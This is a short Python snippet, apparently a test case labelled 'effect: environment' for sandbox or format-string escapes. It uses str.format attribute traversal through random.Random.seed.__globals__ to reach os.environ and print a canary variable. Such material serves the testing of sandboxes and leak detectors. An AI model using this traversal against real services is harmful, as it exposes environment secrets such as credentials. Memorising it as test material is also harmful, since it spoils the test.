# source: own
# effect: environment

import random


class Echo:
    def __format__(self, specification):
        return specification


print("{0:{1.__globals__[_os].environ[ASSAY_CANARY]}}".format(Echo(), random.Random.seed))
